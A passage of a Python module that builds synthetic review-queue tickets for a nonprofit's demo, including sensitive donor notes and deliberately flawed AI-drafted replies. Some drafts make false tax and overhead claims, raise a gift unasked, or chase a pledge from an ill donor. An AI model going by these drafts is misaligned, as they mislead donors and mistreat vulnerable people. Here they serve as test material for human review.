"""Invented but realistic ``signoff.ticket/1`` objects for the demo and for benchmarks.

This is what a new user sees first, so the stream imitates the exception queue of a
fundraising nonprofit with a small B2B arm: five workflows from five pipelines, models that
were upgraded during the window (so per-version comparisons show something), sensitive
donor notes, stale data, long email threads, and a few hostile tickets that prove ticket
text is only ever rendered as plain text.

Everything is driven by one ``random.Random(seed)`` and a fixed ``now``, so the same
arguments always give the same tickets. All people, organisations and addresses are
invented and use reserved example domains and phone ranges set aside for fiction.
"""

from __future__ import annotations

import functools
import gc
import random
import time
import unicodedata
from bisect import bisect
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from itertools import accumulate
from typing import Any

__all__ = ["WORKFLOWS", "generate_tickets", "iter_tickets"]

WORKFLOWS: tuple[str, ...] = (
    "donor_segmentation",
    "ask_amount",
    "reactivation_outreach",
    "lead_qualification",
    "message_draft",
)

_SCHEMA = "signoff.ticket/1"
_DAY = 86_400
_HOUR = 3_600
_WINDOW_DAYS = 10

# --------------------------------------------------------------------------------------
# Invented people, organisations and vocabulary
# --------------------------------------------------------------------------------------

_FIRST = (
    "Priya", "Margaret", "Tomás", "Kenji", "Ana", "Olumide", "Sofia", "Liam", "Aisha",
    "Mateo", "Hannah", "Wei", "Fatima", "Noah", "Chiara", "Dmitri", "Grace", "Rahul",
    "Ingrid", "Samuel", "Yuki", "Amara", "Lucas", "Elena", "Jamal", "Maeve", "Arjun", "Zoë",
    "Kwame", "Beatriz", "Henrik", "Leila", "Owen", "Nadia", "Diego", "Ruth", "Sione", "Mei",
    "Patrick", "Esther",
)  # fmt: skip
_LAST = (
    "Raman", "Okafor", "Ibarra", "Watanabe", "Lima", "Adeyemi", "Rossi", "O'Brien", "Haddad",
    "García", "Schmidt", "Zhang", "Nasser", "Johnson", "Bianchi", "Volkov", "Mensah", "Mehta",
    "Lindqvist", "Cohen", "Tanaka", "Nwosu", "Moreau", "Petrova", "Carter", "Byrne", "Iyer",
    "Dubois", "Asante", "Costa", "Nielsen", "Farah", "Hughes", "Kowalski", "Herrera",
    "Goldberg", "Fifita", "Lin", "Murphy", "Abebe",
)  # fmt: skip


def _ascii(name: str) -> str:
    plain = unicodedata.normalize("NFKD", name).encode("ascii", "ignore").decode()
    return "".join(ch for ch in plain.lower() if ch.isalnum())


# Precomputed once so that per-ticket work stays a handful of lookups.
_FIRST_ASCII = tuple(_ascii(n) for n in _FIRST)
_LAST_ASCII = tuple(_ascii(n) for n in _LAST)
_DONOR_DOMAINS = ("example.org", "example.net", "example.com", "mail.example", "post.example")

# (name, industry, country, currency)
_ORGS = (
    ("Northwind Logistics", "logistics", "US", "USD"),
    ("Bluebird Health Partners", "healthcare", "US", "USD"),
    ("Cedar & Pine Architects", "architecture", "CA", "CAD"),
    ("Harbor Light Credit Union", "financial services", "US", "USD"),
    ("Kestrel Analytics", "software", "GB", "GBP"),
    ("Lumen Schools Foundation", "education", "US", "USD"),
    ("Meridian Freight", "logistics", "NL", "EUR"),
    ("Oakridge Community Clinic", "healthcare", "US", "USD"),
    ("Alder Street Food Bank", "nonprofit", "US", "USD"),
    ("Brightwater Utilities", "utilities", "GB", "GBP"),
    ("Copperleaf Retail Group", "retail", "US", "USD"),
    ("Greyhaven Insurance", "insurance", "GB", "GBP"),
    ("Ironbridge Manufacturing", "manufacturing", "GB", "GBP"),
    ("Juniper Hospitality", "hospitality", "US", "USD"),
    ("Larkspur Legal Aid", "nonprofit", "US", "USD"),
    ("Maple Ridge University", "higher education", "CA", "CAD"),
    ("Nordlicht Energie", "energy", "DE", "EUR"),
    ("Orchard Lane Senior Living", "healthcare", "US", "USD"),
    ("Pelican Bay Tours", "travel", "US", "USD"),
    ("Quarry Hill Media", "media", "IE", "EUR"),
    ("Riverstone Capital", "financial services", "US", "USD"),
    ("Solano Vineyards", "agriculture", "US", "USD"),
    ("Tidewater Ports Authority", "public sector", "US", "USD"),
    ("Umbra Security", "software", "DE", "EUR"),
    ("Vantage Point Realty", "real estate", "CA", "CAD"),
    ("Willowbrook Animal Rescue", "nonprofit", "US", "USD"),
    ("Watanabe Trading", "wholesale", "US", "USD"),
    ("Zephyr Robotics", "manufacturing", "US", "USD"),
)


def _slug(name: str) -> str:
    out = name.lower().replace("&", "and")
    return "-".join("".join(c for c in w if c.isalnum()) for w in out.split())


_ORG_DOMAINS = tuple(f"{_slug(o[0])}.example" for o in _ORGS)
_SYMBOL = {"USD": "$", "CAD": "CA$", "GBP": "£", "EUR": "€"}

_STAFF_DOMAIN = "riverbend.example"
_GIFT_OFFICERS = ("Dana Whitfield", "Marcus Lee", "Sofía Marín", "Ben Adler", "Ruth Kamau")
_SDRS = ("Jordan Pike", "Alexis Romero", "Sam Okoro")
_REVIEWERS = ("dana.whitfield", "marcus.lee", "qa.team", "ruth.kamau")

_CAMPAIGNS = (
    "capital campaign", "scholarship fund", "year-end appeal", "new library wing",
    "food pantry expansion", "youth mentoring program", "clean water initiative",
    "endowment match", "Giving Tuesday match", "spring gala paddle raise",
)  # fmt: skip
_EVENTS = (
    "Autumn Volunteer Day", "Spring Gala", "Donor Appreciation Breakfast", "Library Wing "
    "hard-hat tour", "Scholars' Showcase", "Community Run 5K", "Giving Circle dinner",
)  # fmt: skip
_TRADE_EVENTS = ("Osaka expo", "NTEN conference", "SaaStr Europa", "Web Summit", "RevOps Live")
_MONTHS = (
    "January", "February", "March", "April", "May", "June", "July", "August", "September",
    "October", "November", "December",
)  # fmt: skip
_JOB_TITLES = (
    "Operations Director", "Head of RevOps", "IT Manager", "Program Officer", "CFO",
    "Development Director", "Procurement Lead", "Founder", "Student", None,
)  # fmt: skip
_SOURCE_PAGES = ("/pricing", "/demo", "/blog/human-in-the-loop-ai", "/security", "/", "/partners")
_ASSETS = ("Human review playbook", "AI exception handling", "2026 RevOps benchmark")


def _money(amount: float, currency: str) -> str:
    return f"{_SYMBOL.get(currency, currency + ' ')}{amount:,.0f}"


# Timestamp formatting is the hottest path of a million-ticket run, so it is table-driven:
# dates are cached per day, times of day come from two small tables.
_DAY_CACHE: dict[int, str] = {}
_HHMM = tuple(f"T{h:02d}:{m:02d}:" for h in range(24) for m in range(60))
_SSZ = tuple(f"{s:02d}Z" for s in range(60))


def _date(epoch: int) -> str:
    day = epoch // _DAY
    text = _DAY_CACHE.get(day)
    if text is None:
        text = _DAY_CACHE[day] = time.strftime("%Y-%m-%d", time.gmtime(day * _DAY))
    return text


def _month(epoch: int) -> int:
    return int(_date(epoch)[5:7])


def _iso(epoch: int) -> str:
    day, rest = divmod(epoch, _DAY)
    date = _DAY_CACHE.get(day) or _date(epoch)
    return date + _HHMM[rest // 60] + _SSZ[rest % 60]


def _pick(rng: random.Random, seq: tuple[Any, ...]) -> Any:
    return seq[int(rng.random() * len(seq))]


def _weighted(table: tuple[tuple[float, Any], ...]) -> tuple[list[float], tuple[Any, ...]]:
    return list(accumulate(w for w, _ in table)), tuple(v for _, v in table)


def _choose(rng: random.Random, weighted: tuple[list[float], tuple[Any, ...]]) -> Any:
    cum, values = weighted
    return values[bisect(cum, rng.random() * cum[-1])]


def _key(text: str) -> str:
    return "".join(c if c.isalnum() else "_" for c in text.lower()).strip("_")


_CAMPAIGN_KEY = {c: _key(c) for c in _CAMPAIGNS}


def _mix(num: int) -> int:
    # Knuth's multiplicative hash: record numbers with a common stride (major donors end in 0)
    # would otherwise map to a handful of names.
    return (num * 2_654_435_761) & 0xFFFF_FFFF


def _donor_identity(num: int) -> tuple[str, str, str, str]:
    """Name and email derived from the donor number, so one CRM record is one person."""
    h = _mix(num)
    f, rest = h % len(_FIRST), h // len(_FIRST)
    last = rest % len(_LAST)
    domain = _DONOR_DOMAINS[(rest // len(_LAST)) % len(_DONOR_DOMAINS)]
    fa, la = _FIRST_ASCII[f], _LAST_ASCII[last]
    style = (h >> 24) % 3
    local = f"{fa}.{la}" if style == 0 else f"{fa[0]}.{la}" if style == 1 else f"{fa}{la[:3]}"
    return _FIRST[f], _LAST[last], f"{_FIRST[f]} {_LAST[last]}", f"{local}@{domain}"


def _donor_tier(num: int) -> str:
    r = num % 10
    return "major" if r == 0 else "mid" if r <= 3 else "standard"


def _lead_identity(num: int) -> tuple[str, str, str, str, int]:
    h = _mix(num)
    f, rest = h % len(_FIRST), h // len(_FIRST)
    last = rest % len(_LAST)
    org = (rest // len(_LAST)) % len(_ORGS)
    local = f"{_FIRST_ASCII[f]}.{_LAST_ASCII[last]}" if (h >> 28) % 4 else _FIRST_ASCII[f]
    return _FIRST[f], _LAST[last], f"{_FIRST[f]} {_LAST[last]}", f"{local}@{_ORG_DOMAINS[org]}", org


_B62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def _sf_id(num: int) -> str:
    out = []
    for _ in range(5):
        num, r = divmod(num, 62)
        out.append(_B62[r])
    return "00Q5e00000" + "".join(reversed(out))


def _staff_address(name: str) -> str:
    first, last = name.split(" ", 1)
    return f"{_ascii(first)}.{_ascii(last)}@{_STAFF_DOMAIN}"


_STAFF_EMAIL = {n: _staff_address(n) for n in _GIFT_OFFICERS + _SDRS}


def _conf_triggers(conf: float) -> list[str]:
    if conf < 0.6:
        return ["confidence_below_0.60"]
    if conf < 0.9:
        return ["confidence_below_0.90"]
    return []


# --------------------------------------------------------------------------------------
# Models. Two or three versions each; the newest rolled out a few days before ``now`` so
# the window holds tickets from both sides of the upgrade.
# --------------------------------------------------------------------------------------

_MODELS: dict[str, tuple[str, ...]] = {
    "ask-recommender": ("3.3.1", "3.4.0", "3.5.0"),
    "segmenter": ("1.8.4", "1.9.1", "2.0.0"),
    "reactivation-scorer": ("2.1.0", "2.2.0"),
    "reply-drafter": ("4.1.3", "4.2.0", "4.3.0"),
}
_DATED_MODELS = ("lead-qualifier", "reply-classifier")  # calendar-versioned, relative to now
_PROMPTS: dict[str, tuple[str, str]] = {
    "lead-qualifier": ("v13", "v14"),
    "reply-classifier": ("rc-7", "rc-8"),
    "reply-drafter": ("reply-v8", "reply-v9"),
}


# --------------------------------------------------------------------------------------
# Text pools
# --------------------------------------------------------------------------------------

_SIGNOFFS = ("Best,", "Thanks,", "Kind regards,", "Cheers,", "Warmly,", "All the best,")

_LEAD_SDR_OPENERS = (
    "Hi {first}, thanks for downloading the '{asset}' guide. Would a 20-minute call next week be useful?",
    "Hi {first} - following up on your visit to our pricing page. Happy to answer questions "
    "or set up a trial workspace for {org}.",
    "Hello {first}, great meeting you at {event}. As promised, here's the overview deck. Any "
    "questions, just reply here.",
)
_LEAD_MIDDLE = (
    ("Thanks - maybe. What does it integrate with?",
     "We connect to Salesforce, HubSpot and anything that can write JSON Lines. Happy to show "
     "you."),
    ("Got it, thanks. Can you send the security overview first?",
     "Attached. Our SOC 2 report is available under NDA if your team needs it."),
    ("Appreciate it. We're mid-budget cycle, so timing is tricky.",
     "Totally understand. I can hold a trial workspace for you until the end of the month."),
    ("Who else in {industry} uses this?",
     "A few {industry} teams, mostly 50-500 seats. I can share two short case studies."),
)  # fmt: skip

_LEAD_CORE: dict[str, tuple[str, ...]] = {
    "missing_field": (
        "Hi - we're evaluating options for our regional depots. Not sure we're big enough for "
        "the enterprise tier, but could we talk about a partnership for our customers too?",
        "Looking for a tool to route inquiries that our chatbot can't answer. We're a small "
        "team inside a bigger group, so budget is a bit unclear. Can someone send pricing?",
        "Interested in the API plan. What are the rate limits and is there a sandbox?",
        "We'd like a quote. Our parent company handles procurement, so I can't share headcount yet.",
        "Hello, we're a group of clinics and want to pilot this in one region first. Who should we talk to?",
    ),
    "ambiguous_intent": (
        "I'm not interested in a demo right now, but I'd love to meet your team if you're at "
        "the {trade_event} next month.",
        "We already use another vendor but our contract ends in {month}. No need to call yet - "
        "just keep me posted?",
        "Forwarding this to our IT lead, he'll decide. I'm only collecting brochures for now.",
        "Is this the right place to ask about the open solutions engineer role? Also curious "
        "whether this would work for my current employer.",
        "Not now. Maybe after the merger closes.",
    ),
    "low_confidence": (
        "pricing?",
        "pls call me",
        "Saw your talk. Interesting stuff.",
        "Can you send more info",
        "test",
        "hello?",
        "Interested",
    ),
    "sentiment_conflict": (
        "Honestly your last rep never followed up and we went elsewhere. That vendor has been a "
        "disaster, so: can we get a proposal by Friday?",
        "Your onboarding docs are confusing and the trial expired before we got anywhere. That "
        "said, the team loved the reporting - what would a 50-seat plan cost?",
        "Third time filling in this form. Very frustrating. We are ready to buy if someone "
        "actually calls back.",
        "We were burned by a similar tool last year - it auto-sent emails nobody approved. If "
        "yours really keeps a human in the loop, we want to start in {month}.",
        "Not thrilled that I had to sit through a 40-minute webinar to get a price. Anyway: 25 "
        "seats, annual billing, can you do it?",
    ),
}

_LEAD_RFP = (
    "Hello,\n\nI lead operations tooling at {org}. We're consolidating review and approval "
    "tooling across {units} business units (roughly {staff:,} staff) and your product came up "
    "in two separate evaluations.\n\nBefore we can go further we need: (1) answers to our "
    "security questionnaire, (2) confirmation that SAML SSO and SCIM provisioning are included, "
    "(3) data residency options for {country}, and (4) a quote for a three-year term with "
    "annual billing.\n\nOur procurement window closes at the end of {month}, so a reply this "
    "week would be ideal. Happy to set up a call with our CISO as well.\n\n{signoff}\n{name}\n"
    "{title}, {org}"
)

_DONOR_LEADINS = (
    "Prefers to be called in the morning; do not email attachments.",
    "Thank-you call made after the last gift. Left a voicemail, no call back.",
    "Attended the {event} with a guest. Stayed for the program, left before dessert.",
    "Sent handwritten thank-you card for the {campaign} gift.",
    "Asked to receive the annual report by email only.",
    "Met briefly at the {event}; very interested in the student stories.",
)

# (flag, note template, summary)
_SENSITIVE_NOTES = (
    ("bereavement",
     "Spoke with {first} at the {event}. Their husband passed in {month}; they want to honour "
     "him with something for the {campaign} but asked us not to rush anything.",
     "Recent bereavement noted; donor asked not to be rushed"),
    ("bereavement",
     "{first}'s daughter called: {first} died on the 3rd. Family asked that gifts in memory go "
     "to the {campaign}. Please pause all mailings to the household.",
     "Donor reported deceased by family; household asked for a pause"),
    ("health",
     "{first} called to say they're starting chemotherapy next month and will be less "
     "available. Wants to keep supporting us but asked us to go through their son for now.",
     "Donor disclosed a serious illness and a new point of contact"),
    ("health",
     "Visit postponed again - {first} is recovering from surgery. Spouse says 'maybe in the "
     "spring'.",
     "Donor recovering from surgery; meeting postponed twice"),
    ("legal",
     "Email from {first}'s attorney: the estate gift is on hold while the will is contested. "
     "Please route any contact through counsel.",
     "Estate gift under legal dispute; contact via counsel only"),
    ("legal",
     "{first} mentioned they're going through a divorce and the joint donor-advised fund may "
     "be split. Asked us to hold off on the pledge reminder.",
     "Divorce in progress; joint DAF may be split"),
    ("financial_hardship",
     "{first} replied to the appeal: lost their job in {month} and can't give this year. "
     "Still wants the newsletter.",
     "Donor disclosed job loss; asked to pause giving"),
)  # fmt: skip

_DRAFT_INCOMING: dict[str, tuple[tuple[str, str], ...]] = {
    # (incoming email, draft reply)
    "sentiment_conflict": (
        ("Dear Riverbend team,\n\nI've given every year since 2015 and I was disappointed to "
         "receive three appeal letters in two weeks. It feels wasteful, and frankly it makes me "
         "wonder where my money goes.\n\nPlease fix your mailing list before the next appeal.\n\n"
         "{first} {last}",
         "Hi {first},\n\nThank you so much for your amazing support! We're thrilled to have you "
         "with us. As a valued donor, we hope you'll consider doubling your impact with our "
         "{campaign} this month!\n\nWith gratitude,\n{officer}"),
        ("Hello,\n\nThe event was lovely but the parking situation was a mess and nobody at the "
         "desk knew about my accessibility request. I'm not sure I'll come next year.\n\n{first}",
         "Dear {first},\n\nWe're so glad you enjoyed the {event}! Save the date for next year - "
         "tickets go on sale in {month}.\n\nBest,\n{officer}"),
        ("My receipt has the wrong amount again - second time this year. I need it corrected "
         "for my taxes.\n\n{first}",
         "Hi {first},\n\nThank you for your generous gift! Your receipt is attached. We'd love "
         "for you to join our monthly giving circle!\n\n{officer}"),
    ),
    "ambiguous_intent": (
        ("Hi, can you change my monthly gift? Things have changed a bit this year.\n\n{first}",
         "Hi {first},\n\nThank you for thinking of us! I've increased your monthly gift as "
         "requested - your extra support will go straight to the {campaign}.\n\nWarmly,\n"
         "{officer}"),
        ("Please send me the details again, I think my husband already gave.\n\n{first}",
         "Dear {first},\n\nHere is the link to give online: https://give.riverbend.example/"
         "{slug}\n\nThank you!\n{officer}"),
    ),
    "policy_flag": (
        ("Hi - is my gift tax-deductible, and will my employer match it? I work at {org}.\n\n"
         "{first}",
         "Hi {first},\n\nYes! Your gift is 100% tax-deductible and {org} will match it dollar "
         "for dollar, so your impact doubles.\n\nThanks,\n{officer}"),
        ("Could you tell me exactly how much of my donation goes to the students?\n\n{first}",
         "Dear {first},\n\n100% of your gift goes directly to students - we have no overhead."
         "\n\nWith thanks,\n{officer}"),
    ),
    "sensitive_attribute": (
        ("Hello,\n\nI'm writing to let you know my wife {first} passed away last month. She loved "
         "your scholarship program. Please update your records; I'd like to make a gift in her "
         "memory when I'm ready.\n\nThank you,\n{last} family",
         "Dear {first},\n\nThank you for your message! We'd love to see you at the {event} - "
         "your table is reserved as usual.\n\nBest,\n{officer}"),
        ("Hi, I've been unwell and in and out of hospital, so I missed your calls. I still want "
         "to help but can't commit to a pledge right now.\n\n{first}",
         "Hi {first},\n\nSorry to hear you've been unwell. Just a gentle reminder that your "
         "pledge payment of {amount} is now overdue.\n\nKind regards,\n{officer}"),
    ),
    "missing_field": (
        ("Thanks for the update on the library wing! When is the opening?\n\n{first}",
         "Hi {{first_name}},\n\nThe new library wing opens on {{opening_date}}. We'd love to "
         "see you there!\n\nBest,\n{officer}"),
    ),
    "low_confidence": (
        ("?? got a letter from you, not sure what it's about\n\n{first}",
         "Hi {first},\n\nThanks for getting in touch. The letter was our {campaign} update. "
         "Let me know if you have any questions!\n\nBest,\n{officer}"),
        ("Can we talk", "Hi {first},\n\nOf course - when suits you?\n\n{officer}"),
    ),
    "sample_audit": (
        ("Thank you for the lovely card!\n\n{first}",
         "Dear {first},\n\nIt was our pleasure - thank you for everything you do for our "
         "students.\n\nWarmly,\n{officer}"),
    ),
}  # fmt: skip

# (flag, summary, details)
_DRAFT_POLICY = (
    ("unverified_claim:tax_deductible",
     "Draft promises tax deductibility and an employer match that are not verified",
     "Policy: drafts may not make tax or matching-gift claims; link to the giving FAQ instead."),
    ("unverified_claim:overhead",
     "Draft claims '100% goes to students', which contradicts the audited financials",
     "Finance guidance: use the approved impact wording from the style guide."),
)  # fmt: skip


# --------------------------------------------------------------------------------------
# The generator
# --------------------------------------------------------------------------------------


class _Builder:
    """Holds the per-run state: the rng, ``now``, per-source id counters, model rollouts."""

    def __init__(self, seed: int, now: datetime | None) -> None:
        if now is None:
            now = datetime.now(UTC).replace(second=0, microsecond=0)
        elif now.tzinfo is None:
            now = now.replace(tzinfo=UTC)
        else:
            now = now.astimezone(UTC)
        self.rng = rng = random.Random(seed)
        self.now = int(now.timestamp())
        self.year = now.year
        # Each pipeline numbers its own items; gaps between ids are the items it automated.
        self.counters = {
            s: rng.randrange(1_000, 60_000)
            for s in (
                "crm-lead-agent",
                "fundraising-ai",
                "segmentation-model",
                "outreach-bot",
                "copy-assistant",
            )
        }
        self.versions: dict[str, tuple[str, ...]] = dict(_MODELS)
        y, m = now.year, now.month
        for name in _DATED_MODELS:
            tags = []
            for back in (2, 1, 0):
                yy, mm = (y, m - back) if m - back >= 1 else (y - 1, m - back + 12)
                tags.append(f"{yy}.{mm}.{rng.randrange(0, 4)}")
            self.versions[name] = tuple(tags)
        self.rollout = {name: self.now - int(rng.uniform(2.5, 6.5) * _DAY) for name in self.versions}
        self.workflows = _weighted(
            (
                (0.26, self._lead_qualification),
                (0.18, self._ask_amount),
                (0.20, self._donor_segmentation),
                (0.18, self._reactivation_outreach),
                (0.18, self._message_draft),
            )
        )

    # -- small helpers ----------------------------------------------------------------

    def _next_id(self, source: str) -> int:
        n = self.counters[source] + 1 + int(self.rng.random() * 12)
        self.counters[source] = n
        return n

    def _created(self) -> int:
        rng = self.rng
        # A worked queue: most items arrived in the last few hours (mostly still within their
        # SLA), a tail is backlog from the last days, so the demo shows due, soon and overdue.
        if rng.random() < 0.85:
            return self.now - 45 - int(rng.expovariate(1 / (3 * _HOUR)))
        created = self.now - 45 - int(_WINDOW_DAYS * _DAY * rng.random() ** 1.4)
        # People write during (North American) office hours, roughly 13:00-23:00 UTC.
        if created % _DAY < 13 * _HOUR and rng.random() < 0.75:
            created += 12 * _HOUR
            if created >= self.now:
                created -= _DAY
        return created

    def _version(self, model: str, created: int) -> tuple[str, int]:
        """Version string and its age rank (0 = newest) for a ticket created at ``created``."""
        versions = self.versions[model]
        newest = len(versions) - 1
        r = self.rng.random()
        if created >= self.rollout[model]:
            # A staged rollout: the previous version still serves part of the traffic.
            idx = newest if r < 0.65 else newest - 1 if r < 0.93 or newest == 1 else newest - 2
        else:
            idx = newest - 1 if r < 0.82 or newest == 1 else newest - 2
        return versions[idx], newest - idx

    def _conf(self, lo: float, hi: float, rank: int, *, mode: float | None = None) -> float:
        rng = self.rng
        x = rng.triangular(lo, hi, mode) if mode is not None else lo + (hi - lo) * rng.random()
        # Older model versions run a little less sure of themselves, within the scenario band.
        x -= 0.04 * rank
        return round(min(hi, max(lo, x)), 2)

    def _typical_conf(self, rank: int) -> float:
        return self._conf(0.55, 0.96, rank, mode=0.78)

    def _data_as_of(self, created: int) -> tuple[int, bool]:
        r = self.rng.random()
        if r < 0.13:
            return created - int((14 + 45 * self.rng.random()) * _DAY), True
        # Nightly warehouse refreshes: fresh means "since last night's load".
        return created - int((0.1 + 1.4 * r) * _HOUR * 12), False

    def _maybe_routing(self, created: int, base: dict[str, Any] | None = None) -> dict[str, Any] | None:
        if base is not None:
            return base
        r = self.rng.random()
        if r < 0.06:
            return {"priority": 40 + int(self.rng.random() * 40)}
        if r < 0.09:
            due = created + int((4 + 20 * self.rng.random()) * _HOUR)
            return {"queue": "review", "due_at": _iso(due)}
        if r < 0.1:
            return {"queue": "review", "assignee": _pick(self.rng, _REVIEWERS)}
        return None

    def _thread_times(self, end: int, n: int, spread_hours: float) -> list[int]:
        rng = self.rng
        times = [end]
        t = end
        for _ in range(n - 1):
            t -= int((0.2 + rng.random()) * spread_hours * _HOUR)
            times.append(t)
        times.reverse()
        return times

    @staticmethod
    def _ticket(
        ext_id: str,
        source: str,
        workflow: str,
        created: int,
        subject: dict[str, Any],
        interaction: dict[str, Any],
        ai: dict[str, Any],
        exception: dict[str, Any],
        risk: dict[str, Any] | None,
        routing: dict[str, Any] | None,
    ) -> dict[str, Any]:
        t: dict[str, Any] = {
            "schema": _SCHEMA,
            "external_id": ext_id,
            "source": source,
            "workflow": workflow,
            "created_at": _iso(created),
            "subject": subject,
            "interaction": interaction,
            "ai": ai,
            "exception": exception,
        }
        if risk:
            t["risk"] = risk
        if routing:
            t["routing"] = routing
        return t

    # -- lead_qualification ---------------------------------------------------------

    _LEAD_CODES = _weighted(
        (
            (0.22, "missing_field"),
            (0.20, "ambiguous_intent"),
            (0.14, "low_confidence"),
            (0.12, "sentiment_conflict"),
            (0.10, "high_value"),
            (0.10, "policy_flag"),
            (0.05, "sample_audit"),
        )
    )

    def _lead_qualification(self) -> dict[str, Any]:
        rng = self.rng
        created = self._created()
        code = _choose(rng, self._LEAD_CODES)
        num = 20_000 + int(rng.random() * 8_980_000)
        first, _last, name, email, org_i = _lead_identity(num)
        org, industry, country, currency = _ORGS[org_i]
        n = self._next_id("crm-lead-agent")
        title = _pick(rng, _JOB_TITLES)
        size: int | None = _pick(rng, (12, 35, 80, 140, 260, 450, 900, 1_800, 2_200))
        page = _pick(rng, _SOURCE_PAGES)
        slots = {
            "first": first,
            "org": org,
            "industry": industry,
            "event": _pick(rng, _TRADE_EVENTS),
            "trade_event": _pick(rng, _TRADE_EVENTS),
            "month": _MONTHS[_month(created) % 12],  # next month
            "asset": _pick(rng, _ASSETS),
        }
        channel = _pick(rng, ("web_form", "web_form", "email", "email", "chat"))
        received = created - 5 - int(rng.random() * 600)
        triggers: list[str] = []
        risk: dict[str, Any] = {"tier": "low"}
        routing = None
        amount = None
        details = None
        ext = f"lead-{self.year}-{n:06d}"
        model = "lead-qualifier"
        action, label = "approve_as_mql", "Qualify as MQL and start nurture"
        effect = "Creates MQL in CRM and enrolls in sequence 'Nurture-5' (first email within 1 hour)."
        exc_details = None

        if code == "missing_field":
            core = _pick(rng, _LEAD_CORE[code]).format(**slots)
            field = _pick(rng, ("company_size", "company_size", "job_title", "country"))
            if field == "company_size":
                size = None
            elif field == "job_title":
                title = None
            version, rank = self._version(model, created)
            conf = self._conf(0.55, 0.88, rank)
            seq = _pick(rng, ("Enterprise-3", "Mid-Market-2", "Nurture-5"))
            label = f"Qualify as MQL and start {seq.split('-')[0]} nurture"
            effect = f"Creates MQL in CRM and enrolls in sequence '{seq}' (first email within 1 hour)."
            rationale = (
                "Pricing-page visit and an explicit request to talk suggest buying intent. "
                f"{field.replace('_', ' ').capitalize()} could not be determined from the form "
                "or enrichment, so segment fit is a guess."
            )
            summary = f"{field.replace('_', ' ').capitalize()} unknown; fit cannot be scored"
            if "partnership" in core:
                summary = "Company size unknown; partnership intent ambiguous"
            triggers = [*_conf_triggers(conf), f"missing_field:{field}"]
            signals = [
                {"name": "visited_pricing", "value": page == "/pricing", "weight": 0.35},
                {"name": field, "value": None, "weight": -0.2},
                {"name": "form_fill_count", "value": 1 + int(rng.random() * 3), "weight": 0.1},
            ]
            risk = {"tier": "medium"}
        elif code == "ambiguous_intent":
            core = _pick(rng, _LEAD_CORE[code]).format(**slots)
            model = "reply-classifier"
            channel = "email"
            ext = f"reply-{n}"
            version, rank = self._version(model, created)
            conf = self._conf(0.48, 0.78, rank)
            if "role" in core:
                action, label = "route_to_recruiting", "Forward to recruiting (job inquiry)"
                effect = "Closes the lead and forwards the email to recruiting@riverbend.example."
                rationale = "Mentions an open role; product interest looks secondary."
                summary = "Job inquiry mixed with possible product interest"
            elif "demo" in core or "meet" in core:
                action, label = "book_meeting", "Meeting request: book demo"
                effect = "Sends calendar link for a product demo."
                rationale = "Mentions meeting the team."
                summary = "'Not interested' plus an invitation to meet at an event"
            else:
                action, label = "disqualify_lead", "Disqualify: not interested"
                effect = "Marks the lead Disqualified and stops all sequences."
                rationale = "Defers any conversation; classic soft no."
                summary = "Soft no, or a timing signal worth a follow-up?"
            triggers = _conf_triggers(conf)
            signals = [
                {"name": "intent", "value": action, "weight": 0.6},
                {"name": "negation_detected", "value": True, "weight": -0.5},
                {"name": "future_date_mentioned", "value": "month" in core or "next" in core},
            ]
            exc_details = "The classifier found both a negative and a positive intent cue."
        elif code == "low_confidence":
            core = _pick(rng, _LEAD_CORE[code]).format(**slots)
            channel = _pick(rng, ("web_form", "chat"))
            version, rank = self._version(model, created)
            conf = self._conf(0.15, 0.58, rank)
            if core == "test":
                action, label = "mark_as_spam", "Mark as spam/test submission"
                effect = "Deletes the lead from CRM and blocks the email for 30 days."
            else:
                action, label = "route_to_sdr", f"Route to SDR {_pick(rng, _SDRS)}"
                effect = "Assigns the lead to an SDR with a 1-business-day call task."
            rationale = "Very short message with no stated need, size or timeline."
            summary = "Too little text to classify"
            triggers = _conf_triggers(conf)
            signals = [
                {"name": "message_length", "value": len(core), "weight": -0.3},
                {"name": "email_domain_type", "value": "corporate", "weight": 0.2},
            ]
        elif code == "sentiment_conflict":
            core = _pick(rng, _LEAD_CORE[code]).format(**slots)
            version, rank = self._version(model, created)
            conf = self._typical_conf(rank)
            action, label = "route_to_ae", "Route to account executive: hot lead"
            effect = "Assigns to an AE and sends an intro email from them within 15 minutes."
            rationale = "Explicit purchase intent and a deadline; negative tone about past service."
            summary = "Ready to buy, but angry about earlier follow-up"
            triggers = [*_conf_triggers(conf), "negative_sentiment"]
            signals = [
                {"name": "purchase_intent", "value": "high", "weight": 0.55},
                {"name": "sentiment", "value": round(-0.3 - 0.5 * rng.random(), 2), "weight": -0.2},
                {"name": "prior_contact", "value": True, "weight": 0.1},
            ]
            risk = {"tier": "medium"}
        elif code == "high_value":
            size = _pick(rng, (3_500, 6_000, 12_000, 22_000))
            title = _pick(rng, ("Director of Operations", "VP Operations", "CIO"))
            slots.update(
                units=4 + int(rng.random() * 14),
                staff=size,
                country=country,
                signoff=_pick(rng, _SIGNOFFS),
                name=name,
                title=title,
            )
            core = _LEAD_RFP.format(**slots)
            channel = "email"
            version, rank = self._version(model, created)
            conf = self._conf(0.7, 0.95, rank)
            amount = int(round(size * (18 + 30 * rng.random()), -3))
            action = "route_to_ae"
            label = f"Route to enterprise AE (est. {_money(amount, currency)} ARR)"
            effect = "Creates an opportunity at 'Discovery' and assigns the enterprise AE on duty."
            rationale = (
                f"Formal RFP language, {size:,} staff, security and SSO requirements and a "
                "procurement deadline. Estimated deal size from seat count x list price."
            )
            summary = f"Enterprise RFP worth about {_money(amount, currency)} a year"
            triggers = [*_conf_triggers(conf), "deal_size_above_50000"]
            signals = [
                {"name": "company_size", "value": size, "weight": 0.5},
                {"name": "rfp_language", "value": True, "weight": 0.3},
                {"name": "deadline_mentioned", "value": True, "weight": 0.1},
            ]
            risk = {"tier": "high", "amount": amount, "currency": currency}
            details = {"estimated_arr": amount, "currency": currency, "seats": size}
            if rng.random() < 0.5:
                routing = {"priority": 75, "due_at": _iso(created + 4 * _HOUR)}
        elif code == "policy_flag":
            core = _pick(rng, _LEAD_CORE["missing_field"] + _LEAD_CORE["sentiment_conflict"])
            core = core.format(**slots)
            version, rank = self._version(model, created)
            conf = self._conf(0.75, 0.95, rank)
            flag, summary, exc_details = _pick(
                rng,
                (
                    ("account_ownership_conflict",
                     f"{org} is an existing customer in an open renewal owned by Account Management",
                     "Policy: leads from accounts with an open renewal go to the account owner, "
                     "not to SDR nurture."),
                    ("do_not_contact",
                     f"Contact is on the do-not-contact list (requested {self.year - 1}-03)",
